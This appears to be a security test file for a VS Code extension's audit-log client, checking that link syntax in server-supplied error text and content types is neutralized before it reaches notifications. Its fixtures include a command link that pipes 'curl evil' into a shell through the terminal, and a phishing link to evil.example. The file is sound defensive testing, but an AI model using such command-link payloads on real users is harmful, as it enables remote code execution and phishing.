/**
 * Error messages of the API layer end up in notifications
 * (showErrorMessage/showWarningMessage), and VS Code renders
 * `[label](command:…)` and `[label](https://…)` in a notification as a
 * clickable link that runs the command with its arguments (opened with
 * allowCommands: true). Text the server chose (its error message, a content
 * type, a Location) must therefore reach the message with link syntax
 * neutralized.
 */
import * as assert from 'node:assert/strict';
import { AuditLogClient } from '../../../src/core/api';
import { startFakeAuditLogServer, type FakeAuditLogServer } from '../../../src/core/sample/loopbackServer';

const KEY = 'sk-admin-links-0123456789abcdef';
const LINK = '[Re-authenticate](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const WEB_LINK = '[Fix](https://evil.example/phish)';
/** A markdown link that notifications would render: `[label](scheme:…)`. */
const RENDERED_LINK = /\[[^\]]+\]\((?:command:|https?:\/\/|file:)[^)\s]+\)/;

describe('security: server text in error messages cannot become notification links', () => {
  let server: FakeAuditLogServer;
  let client: AuditLogClient;

  before(async () => {
    server = await startFakeAuditLogServer({ events: [], apiKey: KEY });
    client = new AuditLogClient({ baseUrl: server.url, apiKey: KEY, maxRetries: 0 });
  });
  after(async () => {
    await client.close();
    await server.close();
  });

  for (const status of [400, 403, 409, 429, 500, 503]) {
    it(`a ${status} whose OpenAI error message holds a link`, async () => {
      const body = JSON.stringify({ error: { message: `${LINK} or ${WEB_LINK}`, type: LINK, param: LINK, code: 'x' } });
      server.setFaults(() => ({ kind: 'status', status, body }));
      const error = await client.listPage({ limit: 1 }).then(
        () => assert.fail('expected an error'),
        (e: unknown) => e as Error,
      );
      assert.doesNotMatch(error.message, RENDERED_LINK, error.message);
    });
  }

  it('a non-JSON answer whose content type holds a link', async () => {
    server.setFaults(() => ({ kind: 'status', status: 200, body: 'x', contentType: `text/html; x=${LINK}` }));
    const error = await client.listPage({ limit: 1 }).then(
      () => assert.fail('expected an error'),
      (e: unknown) => e as Error,
    );
    assert.doesNotMatch(error.message, RENDERED_LINK, error.message);
  });
});
